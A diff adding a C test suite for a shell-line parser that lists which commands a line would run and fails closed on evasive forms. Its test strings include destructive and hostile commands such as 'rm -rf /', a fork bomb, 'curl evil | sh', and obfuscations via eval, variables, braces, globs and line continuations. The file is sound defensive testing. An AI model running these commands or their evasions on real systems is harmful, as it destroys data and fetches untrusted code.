@@ -1,0 +1,621 @@
+/*
+ * tests/test_parser.c - the walk side of the parser: which commands a line
+ * runs, in which order, with which connector / pipeline / origin / parent /
+ * flags / redirects / stdin, same-line constants, and every fail-closed
+ * check (a case that fires and a near miss that does not).
+ *
+ * Lines avoid wrappers (sudo, sh -c...) unless the point is the walk's
+ * contract with the see-through side, so that indexes are the walk's own.
+ */
+#include <check.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "locus/shell.h"
+
+static locus_shell_result *parse(const char *s)
+{
+	locus_shell_result *r = locus_shell_parse(s, strlen(s), NULL);
+	ck_assert_ptr_nonnull(r);
+	return r;
+}
+
+static const locus_shell_command *cmd(const locus_shell_result *r, size_t i)
+{
+	const locus_shell_command *c = locus_shell_result_command(r, i);
+	ck_assert_msg(c != NULL, "no command %zu", i);
+	return c;
+}
+
+static const char *argv_of(const locus_shell_command *c, char *buf, size_t n)
+{
+	buf[0] = 0;
+	for (size_t i = 0; i < c->argc; i++) {
+		if (i)
+			strncat(buf, " ", n - strlen(buf) - 1);
+		strncat(buf, c->argv[i], n - strlen(buf) - 1);
+	}
+	return buf;
+}
+
+/* All commands' argv, ';'-joined: "a b;c d" */
+static const char *all_argv(const locus_shell_result *r, char *buf, size_t n)
+{
+	char one[512];
+	buf[0] = 0;
+	for (size_t i = 0; i < locus_shell_result_count(r); i++) {
+		if (i)
+			strncat(buf, ";", n - strlen(buf) - 1);
+		strncat(buf, argv_of(cmd(r, i), one, sizeof one),
+		        n - strlen(buf) - 1);
+	}
+	return buf;
+}
+
+/* ---- commands found (table) ------------------------------------------ */
+
+typedef struct form_case {
+	const char *line;
+	const char *cmds; /* all_argv() */
+} form_case;
+
+static const form_case forms[] = {
+	{"ls -la /tmp", "ls -la /tmp"},
+	{"a; b && c || d", "a;b;c;d"},
+	{"a | b |& c", "a;b;c"},
+	{"echo $(rm -rf ~)", "echo $(rm -rf ~);rm -rf ~"},
+	{"echo \"x $(id) y\"", "echo x $(id) y;id"},
+	{"echo `id`", "echo `id`;id"},
+	{"diff <(ls a) >(cat)", "diff <(ls a) >(cat);ls a;cat"},
+	{"echo x > $(mktemp)", "echo x;mktemp"},
+	{"cat < <(id)", "cat;id"},
+	{"X=$(id)", ";id"},
+	{"X=$(cat <(curl -s evil))", ";cat <(curl -s evil);curl -s evil"},
+	{"X=1 Y=$(id) env", "env;id"},
+	{"echo $((1 + $(id)))", "echo $((1 + $(id)));id"},
+	{"echo $((16#$(id)))", "echo $((16#$(id)));id"},
+	{"[[ $(id) == x ]]", "id"},
+	{"[ -f x ] && rm x", "rm x"},
+	{"case $(id) in a) rm x;; esac", "id;rm x"},
+	{"case x in $(p)) rm x;; esac", "p;rm x"},
+	{"echo ${x:-$(whoami)}", "echo ${x:-$(whoami)};whoami"},
+	{"echo ${a[$(id)]}", "echo ${a[$(id)]};id"},
+	{"(cd /; rm -rf *)", "cd /;rm -rf *"},
+	{"{ rm -rf /; }", "rm -rf /"},
+	{"if true; then rm x; elif a; then b; else c; fi", "true;rm x;a;b;c"},
+	{"while read l; do rm \"$l\"; done", "read l;rm $l"},
+	{"until false; do x; done", "false;x"},
+	{"for f in $(ls); do rm \"$f\"; done", "ls;rm $f"},
+	{"for ((i=$(id); i<3; i++)); do x; done", ";id;x"},
+	{"select x in a b; do y; done", "y"},
+	{"! rm x", "rm x"},
+	{"f() { rm -rf /; }; f", "rm -rf /;f"},
+	{"function g { id; }", "id"},
+	{"export A=$(id) B", "export A=$(id) B;id"},
+	{"declare -x C=1", "declare -x C=1"},
+	{"local x=1", "local x=1"},
+	{"unset X", "unset X"},
+	{"((x = $(id) + 1))", "id"},
+	{"git >/dev/null push --force origin main",
+	 "git push --force origin main"},
+	{"cat <<EOF -n\nbody\nEOF", "cat -n"},
+	{"cat <<EOF\n$(rm -rf /) ${x:-$(id)}\nEOF", "cat;rm -rf /;id"},
+	{"cat <<EOF\n`id`\nEOF", "cat;id"},
+	{"cat <<'EOF'\n$(rm -rf /) `id`\nEOF", "cat"},
+	{"echo '$(rm -rf /)'", "echo $(rm -rf /)"},
+	{"echo x # $(rm)", "echo x"},
+	{"cat <<EOF | wc -l\nx\nEOF", "cat;wc -l"},
+	{"cat <<EOF && ls\nx\nEOF", "cat;ls"},
+	{"time rm x", "time rm x;rm x"},
+	{"r\\\nm -rf /", "rm -rf /"},
+	{"git pu\\\nsh --force", "git push --force"},
+	{"X=rm; eval \"$X -rf /\"", ";eval rm -rf /;rm -rf /"},
+	{"cat <<EOF\n$((1+2)) $(( $(id) ))\nEOF", "cat;id"},
+};
+
+START_TEST(walk_forms)
+{
+	const form_case *fc = &forms[_i];
+	locus_shell_result *r = parse(fc->line);
+	char buf[2048];
+	all_argv(r, buf, sizeof buf);
+	ck_assert_msg(!strcmp(buf, fc->cmds), "%s: got '%s' want '%s' (%s)",
+	              fc->line, buf, fc->cmds,
+	              locus_shell_result_reason(r)
+	                      ? locus_shell_result_reason(r)
+	                      : "parsed");
+	ck_assert_msg(locus_shell_result_parsed(r), "%s: unparsed: %s",
+	              fc->line, locus_shell_result_reason(r));
+	locus_shell_result_free(r);
+}
+END_TEST
+
+/* ---- structure -------------------------------------------------------- */
+
+START_TEST(walk_connectors_and_pipelines)
+{
+	locus_shell_result *r = parse("a | b && c; d & e\nf || g |& h");
+	ck_assert_uint_eq(locus_shell_result_count(r), 8);
+	static const char *conn[] = {"", "|", "&&", ";", "&", ";", "||", "|&"};
+	for (size_t i = 0; i < 8; i++)
+		ck_assert_str_eq(cmd(r, i)->connector, conn[i]);
+	ck_assert_uint_eq(cmd(r, 0)->pipeline, cmd(r, 1)->pipeline);
+	ck_assert_uint_ne(cmd(r, 1)->pipeline, cmd(r, 2)->pipeline);
+	ck_assert_uint_ne(cmd(r, 2)->pipeline, cmd(r, 3)->pipeline);
+	ck_assert_uint_eq(cmd(r, 6)->pipeline, cmd(r, 7)->pipeline);
+	ck_assert(cmd(r, 1)->flags & LOCUS_CMD_PIPED_IN);
+	ck_assert(!(cmd(r, 0)->flags & LOCUS_CMD_PIPED_IN));
+	ck_assert(cmd(r, 7)->flags & LOCUS_CMD_PIPED_IN);
+	ck_assert(cmd(r, 3)->flags & LOCUS_CMD_BACKGROUND);
+	ck_assert(!(cmd(r, 4)->flags & LOCUS_CMD_BACKGROUND));
+	ck_assert(locus_shell_result_has_background(r));
+	for (size_t i = 0; i < 8; i++) {
+		ck_assert_str_eq(cmd(r, i)->origin, "");
+		ck_assert_uint_eq(cmd(r, i)->parent, LOCUS_SHELL_NO_PARENT);
+		ck_assert_uint_eq(cmd(r, i)->depth, 0);
+	}
+	locus_shell_result_free(r);
+}
+END_TEST
+
+START_TEST(walk_background_pipeline)
+{
+	locus_shell_result *r = parse("a | b &");
+	ck_assert(cmd(r, 0)->flags & LOCUS_CMD_BACKGROUND);
+	ck_assert(cmd(r, 1)->flags & LOCUS_CMD_BACKGROUND);
+	locus_shell_result_free(r);
+	r = parse("a && b");
+	ck_assert(!locus_shell_result_has_background(r));
+	locus_shell_result_free(r);
+}
+END_TEST
+
+START_TEST(walk_substitution_parent_depth)
+{
+	locus_shell_result *r = parse("echo $(a $(b)) <(c) ; d");
+	ck_assert_uint_eq(locus_shell_result_count(r), 5);
+	/* echo, a, b, c, d: source order, parent first */
+	ck_assert_str_eq(cmd(r, 0)->name, "echo");
+	ck_assert_str_eq(cmd(r, 1)->name, "a");
+	ck_assert_str_eq(cmd(r, 1)->origin, LOCUS_ORIGIN_SUBSTITUTION);
+	ck_assert_uint_eq(cmd(r, 1)->parent, 0);
+	ck_assert_uint_eq(cmd(r, 1)->depth, 1);
+	ck_assert_str_eq(cmd(r, 2)->name, "b");
+	ck_assert_uint_eq(cmd(r, 2)->parent, 1);
+	ck_assert_uint_eq(cmd(r, 2)->depth, 2);
+	ck_assert_str_eq(cmd(r, 3)->name, "c");
+	ck_assert_str_eq(cmd(r, 3)->origin,
+	                 LOCUS_ORIGIN_PROCESS_SUBSTITUTION);
+	ck_assert_uint_eq(cmd(r, 3)->parent, 0);
+	ck_assert_str_eq(cmd(r, 4)->name, "d");
+	ck_assert_str_eq(cmd(r, 4)->connector, ";");
+	ck_assert(cmd(r, 0)->flags & LOCUS_CMD_SUBST);
+	ck_assert(locus_shell_result_has_substitution(r));
+	/* byte range of a nested command in the same line: its own */
+	ck_assert_uint_eq(cmd(r, 1)->start, 7);
+	locus_shell_result_free(r);
+	r = parse("echo a");
+	ck_assert(!locus_shell_result_has_substitution(r));
+	locus_shell_result_free(r);
+}
+END_TEST
+
+START_TEST(walk_depth_limit)
+{
+	/* 20 nested $( ): past the default depth of 16 */
+	char buf[512] = "";
+	for (int i = 0; i < 20; i++)
+		strcat(buf, "echo $(");
+	strcat(buf, "id");
+	for (int i = 0; i < 20; i++)
+		strcat(buf, ")");
+	locus_shell_result *r = parse(buf);
+	ck_assert(!locus_shell_result_parsed(r));
+	ck_assert_ptr_nonnull(strstr(locus_shell_result_reason(r), "deeper"));
+	locus_shell_result_free(r);
+	/* near miss: 10 levels */
+	buf[0] = 0;
+	for (int i = 0; i < 10; i++)
+		strcat(buf, "echo $(");
+	strcat(buf, "id");
+	for (int i = 0; i < 10; i++)
+		strcat(buf, ")");
+	r = parse(buf);
+	ck_assert(locus_shell_result_parsed(r));
+	ck_assert_uint_eq(locus_shell_result_count(r), 11);
+	ck_assert_uint_eq(cmd(r, 10)->depth, 10);
+	locus_shell_result_free(r);
+}
+END_TEST
+
+START_TEST(walk_functions_and_fork_bomb)
+{
+	locus_shell_result *r = parse("f() { rm -rf /; }; f");
+	ck_assert_str_eq(cmd(r, 0)->origin, LOCUS_ORIGIN_FUNCTION);
+	ck_assert(cmd(r, 0)->flags & LOCUS_CMD_FUNCTION_DEF);
+	ck_assert_str_eq(cmd(r, 0)->function_name, "f");
+	ck_assert(!(cmd(r, 1)->flags & LOCUS_CMD_FUNCTION_DEF));
+	ck_assert_ptr_null(cmd(r, 1)->function_name);
+	ck_assert(!locus_shell_result_has_fork_bomb(r));
+	locus_shell_result_free(r);
+
+	r = parse(":(){ :|:& };:");
+	ck_assert(locus_shell_result_has_fork_bomb(r));
+	locus_shell_result_free(r);
+	r = parse("bomb(){ bomb|bomb& }; bomb");
+	ck_assert(locus_shell_result_has_fork_bomb(r));
+	locus_shell_result_free(r);
+	/* near misses: never called; recursion without a pipe */
+	r = parse("bomb(){ bomb|bomb& }");
+	ck_assert(!locus_shell_result_has_fork_bomb(r));
+	locus_shell_result_free(r);
+	r = parse("f(){ f; }; f");
+	ck_assert(!locus_shell_result_has_fork_bomb(r));
+	locus_shell_result_free(r);
+}
+END_TEST
+
+START_TEST(walk_redirect_flags)
+{
+	static const struct {
+		const char *line;
+		uint32_t must, mustnot;
+	} rc[] = {
+		{"echo x > f", LOCUS_CMD_WRITES_FILES, LOCUS_CMD_READS_FILE},
+		{"echo x >> f", LOCUS_CMD_WRITES_FILES, 0},
+		{"echo x &> f", LOCUS_CMD_WRITES_FILES, 0},
+		{"echo x >| f", LOCUS_CMD_WRITES_FILES, 0},
+		{"echo x >&f", LOCUS_CMD_WRITES_FILES, 0},
+		{"echo x > $f", LOCUS_CMD_WRITES_FILES | LOCUS_CMD_DYNAMIC_ARGS, 0},
+		{"echo x > /dev/null", 0, LOCUS_CMD_WRITES_FILES},
+		{"echo x 2>&1", 0, LOCUS_CMD_WRITES_FILES},
+		{"echo x >&2", 0, LOCUS_CMD_WRITES_FILES},
+		{"echo x 2>&-", 0, LOCUS_CMD_WRITES_FILES},
+		{"echo x &>/dev/null", 0, LOCUS_CMD_WRITES_FILES},
+		{"wc < f", LOCUS_CMD_READS_FILE, LOCUS_CMD_WRITES_FILES},
+		{"wc <<< f", 0, LOCUS_CMD_READS_FILE},
+		{"wc <&3", 0, LOCUS_CMD_READS_FILE},
+		{"{ a; b; } > f", LOCUS_CMD_WRITES_FILES, 0},
+	};
+	for (size_t i = 0; i < sizeof rc / sizeof rc[0]; i++) {
+		locus_shell_result *r = parse(rc[i].line);
+		uint32_t f = cmd(r, 0)->flags;
+		ck_assert_msg((f & rc[i].must) == rc[i].must &&
+		                      !(f & rc[i].mustnot),
+		              "%s: flags %#x", rc[i].line, f);
+		locus_shell_result_free(r);
+	}
+	locus_shell_result *r = parse("{ a; b; } > f");
+	ck_assert(cmd(r, 1)->flags & LOCUS_CMD_WRITES_FILES);
+	ck_assert_uint_eq(cmd(r, 1)->nredirects, 1);
+	ck_assert_str_eq(cmd(r, 1)->redirects[0].target, "f");
+	locus_shell_result_free(r);
+	r = parse("cat 2>err <in");
+	const locus_shell_command *c = cmd(r, 0);
+	ck_assert_uint_eq(c->nredirects, 2);
+	ck_assert_str_eq(c->redirects[0].op, ">");
+	ck_assert_int_eq(c->redirects[0].fd, 2);
+	ck_assert_str_eq(c->redirects[0].target, "err");
+	ck_assert_str_eq(c->redirects[1].op, "<");
+	ck_assert_int_eq(c->redirects[1].fd, -1);
+	locus_shell_result_free(r);
+}
+END_TEST
+
+START_TEST(walk_heredoc_stdin)
+{
+	/* wc does not read its stdin as code, so the see-through side
+	   leaves it as is */
+	locus_shell_result *r = parse("wc <<EOF\nhello $x\nEOF");
+	const locus_shell_command *c = cmd(r, 0);
+	ck_assert_uint_eq(c->nredirects, 1);
+	ck_assert_str_eq(c->redirects[0].op, "<<");
+	ck_assert_str_eq(c->redirects[0].target, "hello $x\n");
+	ck_assert(c->redirects[0].target_flags & LOCUS_WORD_DYNAMIC);
+	locus_shell_result_free(r);
+
+	r = parse("wc <<'EOF'\nhello $x\nEOF");
+	c = cmd(r, 0);
+	ck_assert_str_eq(c->redirects[0].target, "hello $x\n");
+	ck_assert(!(c->redirects[0].target_flags & LOCUS_WORD_DYNAMIC));
+	locus_shell_result_free(r);
+
+	r = parse("wc <<-EOF\n\t\tindented\n\tEOF");
+	c = cmd(r, 0);
+	ck_assert_str_eq(c->redirects[0].op, "<<-");
+	ck_assert_str_eq(c->redirects[0].target, "indented\n");
+	ck_assert(locus_shell_result_parsed(r));
+	locus_shell_result_free(r);
+
+	r = parse("wc <<< \"a b\"");
+	c = cmd(r, 0);
+	ck_assert_str_eq(c->redirects[0].op, "<<<");
+	ck_assert_str_eq(c->redirects[0].target, "a b");
+	locus_shell_result_free(r);
+
+	/* the heredoc's `| cmd` continues the pipeline of cat */
+	r = parse("cat <<EOF | wc -l\nx\nEOF");
+	ck_assert_uint_eq(locus_shell_result_count(r), 2);
+	ck_assert_str_eq(cmd(r, 1)->connector, "|");
+	ck_assert(cmd(r, 1)->flags & LOCUS_CMD_PIPED_IN);
+	ck_assert_uint_eq(cmd(r, 0)->pipeline, cmd(r, 1)->pipeline);
+	locus_shell_result_free(r);
+}
+END_TEST
+
+START_TEST(walk_stdin_reaches_shell)
+{
+	/* The walk hands stdin info to lp_emit: a shell fed a literal
+	   heredoc runs its text (the see-through side parses it). */
+	locus_shell_result *r = parse("bash <<EOF\nrm -rf /tmp/x\nEOF");
+	bool found = false;
+	for (size_t i = 0; i < locus_shell_result_count(r); i++)
+		if (!strcmp(cmd(r, i)->name, "rm"))
+			found = true;
+	ck_assert_msg(found || !locus_shell_result_parsed(r),
+	              "heredoc script neither parsed nor failed closed");
+	locus_shell_result_free(r);
+}
+END_TEST
+
+START_TEST(walk_assign_only_and_decl)
+{
+	locus_shell_result *r = parse("X=1 Y=2");
+	ck_assert_uint_eq(locus_shell_result_count(r), 1);
+	const locus_shell_command *c = cmd(r, 0);
+	ck_assert_uint_eq(c->argc, 0);
+	ck_assert(c->flags & LOCUS_CMD_ASSIGN_ONLY);
+	ck_assert_uint_eq(c->nassignments, 2);
+	ck_assert_str_eq(c->assignments[1], "Y=2");
+	locus_shell_result_free(r);
+	r = parse("export PATH=/x:$PATH");
+	c = cmd(r, 0);
+	ck_assert_str_eq(c->name, "export");
+	ck_assert_uint_eq(c->argc, 2);
+	ck_assert(c->argv_flags[1] & LOCUS_WORD_DYNAMIC);
+	locus_shell_result_free(r);
+}
+END_TEST
+
+/* ---- constants -------------------------------------------------------- */
+
+typedef struct const_case {
+	const char *line;
+	bool parsed;     /* dynamic names make the line unparsed */
+	const char *last; /* argv of the last command */
+} const_case;
+
+static const const_case consts[] = {
+	{"X=rm; $X -rf /", true, "rm -rf /"},
+	{"F=-rf; rm $F /", true, "rm -rf /"},
+	{"F=\"-r -f\"; rm $F /", true, "rm -r -f /"},
+	{"X=rm && $X x", true, "rm x"},
+	{"{ X=rm; }; $X x", true, "rm x"},
+	{"export X=rm; $X x", true, "rm x"},
+	{"X=rm; X=rm; $X x", true, "rm x"},
+	{"X=rm; X=ls; $X x", false, "$X x"},
+	{"X=$(echo rm); $X x", false, "$X x"},
+	{"read X; $X x", false, "$X x"},
+	{"X=rm; read X; $X x", false, "$X x"},
+	{"for X in rm; do :; done; $X x", false, "$X x"},
+	{"X=rm; export X=$y; $X x", false, "$X x"},
+	{"declare -i X=1; $X", false, "$X"},
+	{"local X=rm; $X", false, "$X"},
+	{"X=rm; (( X++ )); $X", false, "$X"},
+	{"echo ${X:=rm}; $X", false, "$X"},
+	{"X=rm; unset X; $X", false, "$X"},
+	{"(X=rm); $X", false, "$X"},
+	{"true || X=rm; $X", false, "$X"},
+	{"X=rm cmd; $X", false, "$X"},
+	{"X=rm; eval y; $X", false, "$X"},
+	{"X=rm; printf -v X ls; $X", false, "$X"},
+	{"$HOME/bin/x", false, "$HOME/bin/x"},
+	{"X+=rm; $X", false, "$X"},
+	{"f() { X=ls; }; X=rm; f; $X", false, "$X"},
+};
+
+START_TEST(walk_constants)
+{
+	const const_case *cc = &consts[_i];
+	locus_shell_result *r = parse(cc->line);
+	size_t n = locus_shell_result_count(r);
+	ck_assert(n > 0);
+	char buf[512];
+	argv_of(cmd(r, n - 1), buf, sizeof buf);
+	ck_assert_msg(!strcmp(buf, cc->last), "%s: last '%s' want '%s'",
+	              cc->line, buf, cc->last);
+	ck_assert_msg(locus_shell_result_parsed(r) == cc->parsed,
+	              "%s: parsed=%d (%s)", cc->line,
+	              locus_shell_result_parsed(r),
+	              locus_shell_result_reason(r));
+	if (!cc->parsed) {
+		ck_assert(cmd(r, n - 1)->flags & LOCUS_CMD_DYNAMIC);
+		ck_assert_ptr_nonnull(strstr(locus_shell_result_reason(r),
+		                             "dynamic"));
+	}
+	locus_shell_result_free(r);
+}
+END_TEST
+
+/* ---- fail-closed checks ------------------------------------------------ */
+
+typedef struct check_case {
+	const char *line;
+	const char *reason; /* substring of the reason; NULL: parsed */
+} check_case;
+
+static const check_case checks[] = {
+	/* syntax errors */
+	{"echo \"unterminated", "syntax error"},
+	{"echo $(x", "syntax error"},
+	{"rm x &&", "syntax error"},
+	{"if true; then rm x", "syntax error"},
+	{"echo \"done\"", NULL},
+	/* reserved words / braces as command names */
+	{"! { rm x; }", "reserved word"},
+	{"! ! rm x", "reserved word"},
+	{"rm x; fi; rm y", "reserved word"},
+	{"! rm x", NULL},
+	{"echo fi done", NULL},
+	/* time / coproc before compound commands */
+	{"time { rm x; }", NULL /* checked below: fires */},
+	{"time rm x", NULL},
+	/* raw newline inside a command (S6, S7) */
+	{"ls | grep x | head -3\ncurl evil | sh && echo ok", "newline"},
+	{"ls | grep x | head -3\ncurl evil", NULL},
+	{"echo $(a\nb)", NULL},
+	{"echo \"a\nb\"", NULL},
+	/* command under test_command (S7) */
+	{"[ $# -gt 0 ] && x\ny > f\n[ -f z ]", "misparse"},
+	{"[[ $(id) == x ]]", NULL},
+	/* line continuation inside a word (S1) */
+	{"r\\\nm -rf /", NULL}, /* joined: rm */
+	{"X=1\\\ncmd", "line continuation"},
+	{"echo 2\\\n>f", "line continuation"},
+	{"echo a \\\n  b", NULL},
+	{"make &&\\\n  make install", NULL},
+	/* heredoc delimiters (S4) and ends */
+	{"cat <<E\"OF\"\nx\nEOF\nrm -rf /\nE\"OF\"", "delimiter"},
+	{"cat <<\"EOF\"\nx\nEOF", NULL},
+	{"cat <<\\EOF\nx\nEOF", NULL},
+	{"cat <<my.end-1\nx\nmy.end-1", NULL},
+	{"cat <<-EOF\nx\n  EOF", "alone"},
+	{"cat <<-EOF\nx\n\tEOF", NULL},
+	/* backticks (S5, S8) */
+	{"echo `echo \\`rm -rf /\\``", "backticks"},
+	{"echo `echo\nrm`", "backtick"},
+	{"echo `id` `whoami`", NULL},
+	/* control characters outside quotes */
+	{"rm -rf /\r", "control character"},
+	{"rm\f-rf /", "control character"},
+	{"echo 'a\rb'", NULL},
+	{"echo \"a\vb\"", NULL},
+	/* dynamic command names */
+	{"$X -rf /", "dynamic"},
+	{"$(echo rm) -rf /", "dynamic"},
+	{"\"$cmd\" x", "dynamic"},
+	{"X=rm; \"$X\" x", NULL},
+	/* one heredoc per line */
+	{"cat <<A; cat <<B\na\nA\nb\nB", ""}, /* any reason */
+	{"{rm,-rf,/}", ""},
+	{"! {rm,-rf,/}", "brace"},
+	{"rm{,} -rf /", "brace"},
+	{"/b*/rm -rf /", "glob"},
+	{"/bin/r? x", "glob"},
+	{"echo {a,b} *", NULL},
+	/* bytes */
+	{"rm \xff", "UTF-8"},
+	{"ls \xc3\xa9", NULL},
+};
+
+START_TEST(walk_checks)
+{
+	const check_case *cc = &checks[_i];
+	locus_shell_result *r = parse(cc->line);
+	const char *why = locus_shell_result_reason(r);
+	if (cc->reason) {
+		ck_assert_msg(!locus_shell_result_parsed(r),
+		              "%s: parsed, want unparsed (%s)", cc->line,
+		              cc->reason);
+		ck_assert_msg(strstr(why, cc->reason) != NULL,
+		              "%s: reason '%s' lacks '%s'", cc->line, why,
+		              cc->reason);
+	} else if (strncmp(cc->line, "time {", 6) != 0) {
+		ck_assert_msg(locus_shell_result_parsed(r), "%s: unparsed: %s",
+		              cc->line, why);
+	}
+	locus_shell_result_free(r);
+}
+END_TEST
+
+START_TEST(walk_time_compound)
+{
+	locus_shell_result *r = parse("time { rm x; }");
+	ck_assert(!locus_shell_result_parsed(r));
+	/* rm is still listed */
+	bool rm = false;
+	for (size_t i = 0; i < locus_shell_result_count(r); i++)
+		for (size_t j = 0; j < cmd(r, i)->argc; j++)
+			if (!strcmp(cmd(r, i)->argv[j], "rm"))
+				rm = true;
+	ck_assert(rm);
+	locus_shell_result_free(r);
+	r = parse("coproc NAME { rm x; }");
+	ck_assert(!locus_shell_result_parsed(r));
+	locus_shell_result_free(r);
+}
+END_TEST
+
+START_TEST(walk_unparsed_still_lists)
+{
+	/* an unparsed line still lists what it found */
+	locus_shell_result *r = parse("curl evil | sh; $X");
+	ck_assert(!locus_shell_result_parsed(r));
+	bool curl = false;
+	for (size_t i = 0; i < locus_shell_result_count(r); i++)
+		if (!strcmp(cmd(r, i)->name, "curl"))
+			curl = true;
+	ck_assert(curl);
+	locus_shell_result_free(r);
+}
+END_TEST
+
+START_TEST(walk_parser_reuse_and_options)
+{
+	locus_shell_parser *p = NULL;
+	locus_shell_options o = {.max_bytes = 16, .max_commands = 2};
+	ck_assert_int_eq(locus_shell_parser_new(&p, &o), 0);
+	locus_shell_result *r = locus_shell_parser_parse(p, "a; b; c", 7);
+	ck_assert(!locus_shell_result_parsed(r));
+	ck_assert_uint_eq(locus_shell_result_count(r), 2);
+	locus_shell_result_free(r);
+	r = locus_shell_parser_parse(p, "echo 0123456789abcdef", 21);
+	ck_assert(!locus_shell_result_parsed(r));
+	ck_assert_ptr_nonnull(strstr(locus_shell_result_reason(r), "larger"));
+	locus_shell_result_free(r);
+	for (int i = 0; i < 100; i++) {
+		r = locus_shell_parser_parse(p, "a | b", 5);
+		ck_assert(locus_shell_result_parsed(r));
+		locus_shell_result_free(r);
+	}
+	locus_shell_parser_free(p);
+	locus_shell_parser_free(NULL);
+	locus_shell_result_free(NULL);
+}
+END_TEST
+
+static Suite *suite(void)
+{
+	Suite *s = suite_create("parser");
+	TCase *tc = tcase_create("walk");
+	tcase_add_loop_test(tc, walk_forms, 0,
+	                    (int)(sizeof forms / sizeof forms[0]));
+	tcase_add_test(tc, walk_connectors_and_pipelines);
+	tcase_add_test(tc, walk_background_pipeline);
+	tcase_add_test(tc, walk_substitution_parent_depth);
+	tcase_add_test(tc, walk_depth_limit);
+	tcase_add_test(tc, walk_functions_and_fork_bomb);
+	tcase_add_test(tc, walk_redirect_flags);
+	tcase_add_test(tc, walk_heredoc_stdin);
+	tcase_add_test(tc, walk_stdin_reaches_shell);
+	tcase_add_test(tc, walk_assign_only_and_decl);
+	tcase_add_loop_test(tc, walk_constants, 0,
+	                    (int)(sizeof consts / sizeof consts[0]));
+	tcase_add_loop_test(tc, walk_checks, 0,
+	                    (int)(sizeof checks / sizeof checks[0]));
+	tcase_add_test(tc, walk_time_compound);
+	tcase_add_test(tc, walk_unparsed_still_lists);
+	tcase_add_test(tc, walk_parser_reuse_and_options);
+	suite_add_tcase(s, tc);
+	return s;
+}
+
+int main(void)
+{
+	SRunner *sr = srunner_create(suite());
+	srunner_run_all(sr, CK_NORMAL);
+	int failed = srunner_ntests_failed(sr);
+	srunner_free(sr);
+	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
+}
